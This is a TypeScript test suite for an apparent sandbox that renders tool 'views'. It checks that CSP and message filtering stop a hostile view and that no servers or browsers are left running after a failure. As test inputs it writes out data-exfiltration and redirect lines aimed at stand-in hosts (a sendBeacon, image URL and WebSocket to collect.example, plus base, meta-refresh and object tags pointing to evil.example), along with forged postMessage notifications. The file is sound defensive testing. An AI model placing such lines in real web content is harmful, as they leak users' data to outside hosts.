/** Views that reach for more than a host gives them, and what is left behind when a view fails. */
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { openChromium, renderView, type RenderOptions } from '@sigil-mcp/testing/view';
import { describeWith } from '../../support/supplies/supply';
import { scripted, viewServer, type ViewDefinition } from './view-server';

const ROOT = join(__dirname, '..', '..', '..');

describeWith('chromium', 'a hostile view', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openChromium();
  });
  afterAll(() => browser.close());
  afterEach(() => expect(browser.contexts()).toEqual([]));

  /** Shows a view, and returns what it shows and asked for, with the problem that ended it. */
  const watch = async (definition: ViewDefinition, options: RenderOptions = {}) => {
    const seen: string[] = [];
    try {
      const shown = await renderView(
        viewServer(definition),
        'greet',
        { name: 'Ada' },
        { browser, timeout: 30_000, ...options },
      );
      seen.push(await shown.text());
      await shown.close();
      return { seen, calls: shown.requests.calls, code: undefined };
    } catch (error) {
      return { seen, calls: [], code: (error as { readonly code: string }).code };
    }
  };

  it('cannot use the door between the test and its host', async () => {
    const { seen, calls } = await watch(
      scripted(
        'window.sigilView("call", { name: "secret", arguments: {} }).then(() => show("in"), () => show("refused"));',
      ),
    );
    expect([seen, calls]).toEqual([['refused'], []]);
  });

  it('cannot speak for the sandbox, or answer what it was not asked', async () => {
    const { seen } = await watch(
      scripted(
        'for (const method of ["sandbox-proxy-ready", "sandbox-resource-ready"])',
        '  parent.postMessage({ jsonrpc: "2.0", method: `ui/notifications/${method}`, params: { html: "<p>again" } }, "*");',
        'view.onResult(({ data }) => show(data.greeting));',
      ),
    );
    expect(seen).toEqual(['Hello Ada']);
    const stray = await watch(scripted('parent.postMessage({ jsonrpc: "2.0", id: 99, result: {} }, "*");'));
    expect(stray.code).toBe('SIGIL_VIEW_STRAY');
  });

  it('is not reached by frames within it', async () => {
    const frame = `<script>parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/tool-result', params: { content: [], structuredContent: { greeting: 'forged' } } }, '*');</script>`;
    const { seen } = await watch(
      {
        body: `<iframe src="https://frame.example/" title="frame"></iframe>${
          scripted(
            'view.onResult(({ data }) => show(data.greeting));',
            'addEventListener("message", ({ source, data }) => source !== parent && show(`heard ${data.method}`));',
          ).body
        }`,
        csp: { frameDomains: ['https://frame.example'] },
      },
      { network: () => ({ contentType: 'text/html', body: frame }) },
    );
    expect(seen.join()).toContain('heard ui/notifications/tool-result');
    expect(seen.join()).toContain('Hello Ada');
    expect(seen.join()).not.toContain('forged');
  });

  it.each([
    ['a worker', 'new Worker(URL.createObjectURL(new Blob(["1"])));', 'SIGIL_VIEW_CSP'],
    [
      'a script made of text',
      'const s = document.createElement("script"); s.src = "data:text/javascript,1"; document.body.append(s);',
      'SIGIL_VIEW_CSP',
    ],
    ['a beacon', 'navigator.sendBeacon("https://collect.example/", "secret");', 'SIGIL_VIEW_CSP'],
    ['a socket', 'new WebSocket("wss://collect.example/");', 'SIGIL_VIEW_CSP'],
    ['a picture that carries data', 'new Image().src = "https://collect.example/?q=secret";', 'SIGIL_VIEW_CSP'],
    [
      'another base',
      'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b);',
      'SIGIL_VIEW_CSP',
    ],
    [
      'a refresh',
      'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\\"0;url=https://evil.example/\\">");',
      'SIGIL_VIEW_CSP',
    ],
    [
      'a plugin',
      'document.body.insertAdjacentHTML("beforeend", "<object data=\\"https://evil.example/\\"></object>");',
      'SIGIL_VIEW_CSP',
    ],
  ])('reaches nothing outside with %s', async (_title, line, code) => {
    const failed = renderView(viewServer(scripted(line)), 'greet', {}, { browser });
    await expect(failed).rejects.toMatchObject({ code });
  });

  it('leaves no server that it started, also if the view is not shown', async () => {
    const children = (): string[] => {
      const { stdout } = spawnSync('ps', ['-o', 'pid=,comm=', '--ppid', String(process.pid)], { encoding: 'utf8' });
      return stdout.split('\n').filter((name) => /node/i.test(name));
    };
    const before = children();
    const charts = { command: process.execPath, args: [join(ROOT, 'apps', 'charts', 'dist', 'main.js')] };
    const shown = await renderView(charts, 'climate', { city: 'Oslo' }, { browser });
    expect(children()).toHaveLength(before.length + 1);
    await shown.close();
    expect(children()).toEqual(before);
    await expect(renderView(charts, 'none', {}, { browser })).rejects.toMatchObject({ code: 'SIGIL_VIEW_NO_TOOL' });
    await expect(renderView(charts, 'climate', { city: 'Oslo' }, { browser, timeout: 1 })).rejects.toThrow();
    expect(children()).toEqual(before);
  });

  it('leaves no browser, also if it never rests', async () => {
    const running = (): number => {
      const { stdout } = spawnSync('ps', ['-o', 'comm=', '--ppid', String(process.pid)], { encoding: 'utf8' });
      return stdout.split('\n').filter((name) => /chrom/i.test(name)).length;
    };
    const before = running();
    const views = [scripted('view.onResult(() => { for (;;); });'), scripted('throw new Error("x");'), scripted()];
    for (const view of views) {
      const shown = renderView(viewServer(view), 'greet', {}, { timeout: 1000 });
      await shown.then((each) => each.close()).catch(() => undefined);
    }
    expect(running()).toBe(before);
  });
});
